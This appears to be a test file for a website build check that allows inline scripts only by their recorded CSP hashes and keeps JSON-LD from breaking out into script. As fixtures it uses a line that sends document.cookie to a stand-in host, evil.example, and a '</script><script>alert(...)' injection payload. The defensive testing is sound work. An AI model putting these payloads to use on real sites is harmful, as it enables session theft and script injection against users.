import {test} from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  allowedInlineScriptHashes,
  checkInlineScripts,
  cspHash,
  knownInlineScripts,
  scriptsOf,
} from '../../plugins/host-config/inlineScripts';
import {jsonLdText} from '../../src/components/StructuredData/jsonLd';

function site(pages: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'site-'));
  for (const [file, html] of Object.entries(pages)) {
    fs.mkdirSync(path.dirname(path.join(dir, file)), {recursive: true});
    fs.writeFileSync(path.join(dir, file), html);
  }
  return dir;
}

/** A page in the shape Docusaurus writes (minified, attributes unquoted): head, pre-body scripts, app root, bundles. */
const page = (app: string, {head = '', before = '', after = ''} = {}) =>
  `<!doctype html><html lang=en><head>${head}<script src=/assets/js/main.js defer></script></head>` +
  `<body class=navigation-with-keyboard>${before}<div id=__docusaurus>${app}</div>${after}</body></html>`;

const theme = '!function(){document.documentElement.setAttribute("data-theme","light")}()';
const start = '!function(){requestAnimationFrame(start)}()';
const known = [theme, start].map((script) => ({what: 'a test script', hash: cspHash(script)}));
const hostile = '</script><script>alert(document.domain)</script>';

test('the recorded scripts, wherever they stand, are allowed by their hashes; nothing else is', () => {
  const root = site({
    'index.html': page('<main>Text</main>', {before: `<script>${theme}</script>`, after: `<script>${start}</script>`}),
    'de/index.html': page('<main>Text</main>', {before: `<script>${theme}</script>`}),
  });
  assert.deepEqual(checkInlineScripts(root, known), known.map(({hash}) => hash).sort());
});

test('an inline script outside the set stops the build, inside or outside the app root, naming each page', () => {
  const evil = 'fetch("https://evil.example/?"+document.cookie)';
  const root = site({
    'index.html': page('<main>Text</main>', {before: `<script>${theme}</script>`}),
    'docs/srb/welcome/index.html': page(`<main><p>Text</p><script>${evil}</script></main>`),
    'blog/index.html': page('<main>Text</main>', {head: '<script data-rh=true>import("/x.js")</script>'}),
  });
  assert.throws(
    () => checkInlineScripts(root, known),
    (error: Error) => {
      assert.match(error.message, /docs\/srb\/welcome\/index\.html: an inline script 'sha256-[^']+': "fetch\(\\"https:\/\/evil/);
      assert.match(error.message, /blog\/index\.html: an inline script .*import\(/);
      assert.doesNotMatch(error.message, /^- index\.html/m);
      assert.match(error.message, /record its new hash in plugins\/host-config\/inlineScripts\.ts/);
      return true;
    },
  );
});

test('JSON-LD written raw lets a title start a script: the parser finds it and the build stops', () => {
  const raw = `<script type=application/ld+json>${JSON.stringify({name: hostile})}</script>`;
  const root = site({'blog/x/index.html': page('<main>Text</main>', {head: raw})});
  assert.throws(() => checkInlineScripts(root, known), /blog\/x\/index\.html: an inline script .*alert\(document\.domain\)/);
  // Broken JSON-LD stops the build too, whatever it holds.
  const broken = site({'a/index.html': page('<main>Text</main>', {head: '<script type=application/ld+json>{"name": </script>'})});
  assert.throws(() => checkInlineScripts(broken, known), /a\/index\.html: a JSON-LD element that is not JSON/);
});

test('JSON-LD written with jsonLdText keeps a hostile title inside the data', () => {
  const data = {'@type': 'BlogPosting', headline: hostile, name: 'A & B <b>', description: '-->'};
  const text = jsonLdText(data);
  assert.doesNotMatch(text, /[<>&]/);
  assert.deepEqual(JSON.parse(text), data);
  const html = page('<main>Text</main>', {head: `<script type=application/ld+json>${text}</script>`});
  assert.deepEqual(scriptsOf(html), {inline: [], brokenJsonLd: []});
  assert.deepEqual(checkInlineScripts(site({'index.html': html}), known), []);
});

test('external scripts are not inline scripts; an empty one needs no hash', () => {
  assert.deepEqual(scriptsOf(page('<script src=/a.js></script><script> </script>')), {inline: [], brokenJsonLd: []});
});

test('the policy allows exactly the recorded scripts; each says what it is, and no hash is recorded twice', () => {
  assert.deepEqual(allowedInlineScriptHashes(), knownInlineScripts.map(({hash}) => hash).sort());
  assert.ok(knownInlineScripts.length > 0);
  for (const {what, hash} of knownInlineScripts) {
    assert.match(hash, /^'sha256-[A-Za-z0-9+/]{43}='$/, what);
    assert.ok(what.length > 20, hash);
  }
  assert.equal(new Set(knownInlineScripts.map(({hash}) => hash)).size, knownInlineScripts.length);
});
